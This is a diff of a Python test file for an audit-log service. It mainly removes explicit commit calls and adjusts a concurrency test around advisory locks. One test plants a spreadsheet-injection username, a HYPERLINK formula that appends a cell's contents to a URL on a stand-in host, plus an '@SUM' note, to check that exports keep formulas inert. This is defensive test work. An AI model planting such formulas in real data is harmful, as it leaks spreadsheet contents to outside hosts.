@@ -29,7 +29,7 @@ from services.errors import InvalidInput, NotPermitted
 from services.institution import audit
 from services.institution.directory import create_user
 from services.rules.calendar import DayType
-from services.unit_of_work import transaction
+from services.unit_of_work import UnitOfWork, transaction
 from tests.service.conftest import Institution, at
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -82,7 +82,6 @@ def busy_trail(inst: Institution) -> str:
         handling_form.handling_form(uow, inst.users["handler"], ref.case_no)
     with inst.uow() as uow:
         audit.record(uow.session, None, "sign_in_failed", username="无此人", note='引号 " 与 | 竖线')
-        uow.commit()
     return ref.case_no
 
 
@@ -183,11 +182,10 @@ def test_two_writers_at_once_are_put_in_line(futures, engine):
     def second() -> None:
         with transaction(engine) as uow:
             audit.record(uow.session, futures.users["supervisor"], "sample_drawn", n=2)
-            uow.commit()
 
     waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"
     thread = threading.Thread(target=second)
-    with transaction(engine) as first, engine.connect() as watcher:
+    with UnitOfWork(engine) as first, engine.connect() as watcher:
         audit.record(first.session, futures.users["admin"], "kpi_weights_set", n=1)
         first.flush()  # the trigger ran: this open transaction holds the chain's lock
         thread.start()
@@ -212,7 +210,6 @@ def test_many_concurrent_writers_leave_a_valid_chain(futures, engine):
         for i in range(10):
             with transaction(engine) as uow:
                 audit.record(uow.session, futures.users["admin"], "kpi_weights_set", writer=n, i=i)
-                uow.commit()
 
     threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
     for thread in threads:
@@ -299,7 +296,6 @@ def test_exported_spreadsheets_keep_formulas_inert(futures):
     with futures.uow() as uow:
         evil = create_user(uow, "evil", '=HYPERLINK("http://x.example/?"&A1,"点我")', "kite-harbour9", ["handler"])
         audit.record(uow.session, evil.id, "signed_in", note="@SUM(1+1)")
-        uow.commit()
     with futures.uow() as uow:
         table = audit.export_frame(uow, futures.users["admin"], username="evil")
     sheet = openpyxl.load_workbook(io.BytesIO(audit.to_xlsx(table))).active
